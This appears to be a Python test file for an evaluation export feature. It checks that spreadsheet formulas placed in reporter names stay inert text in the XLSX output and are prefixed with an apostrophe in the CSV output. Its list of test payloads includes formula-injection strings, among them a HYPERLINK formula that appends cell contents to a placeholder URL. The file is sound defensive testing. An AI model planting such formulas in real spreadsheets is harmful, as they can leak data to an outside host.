"""An evaluation export never carries a formula a name smuggled in (issue 18, item 10): a
reporter named =HYPERLINK(…) reaches the evaluation by grid worker by name."""

from __future__ import annotations

import csv
from pathlib import Path

from openpyxl import load_workbook

from console.evaluation_export import write_csv, write_xlsx
from console.models.evaluation_model import Column

COLUMNS = [Column("name", "Name", "text"), Column("received", "Reports", "count")]
EVIL = ['=HYPERLINK("http://example.invalid/?"&A1,"点此")', "+1+1", "-2+3", "@SUM(A1)"]


def test_a_formula_in_a_name_is_text_in_the_xlsx(tmp_path: Path) -> None:
    path = tmp_path / "考核.xlsx"
    write_xlsx(path, "十二月", COLUMNS, ["姓名", "上报"], [[name, 1] for name in EVIL])
    sheet = load_workbook(path).active
    assert sheet is not None
    cells = [sheet.cell(row=3 + k, column=1) for k in range(len(EVIL))]
    assert [c.value for c in cells] == EVIL  # as written, to be read
    assert all(c.data_type == "s" for c in cells)  # and never run


def test_a_formula_in_a_name_is_inert_in_the_csv(tmp_path: Path) -> None:
    path = tmp_path / "考核.csv"
    write_csv(path, "十二月", COLUMNS, ["姓名", "上报"], [[name, 1] for name in [*EVIL, "张三"]])
    with path.open(encoding="utf-8-sig", newline="") as f:
        names = [row[0] for row in list(csv.reader(f))[2:]]
    assert names == ["'" + name for name in EVIL] + ["张三"]
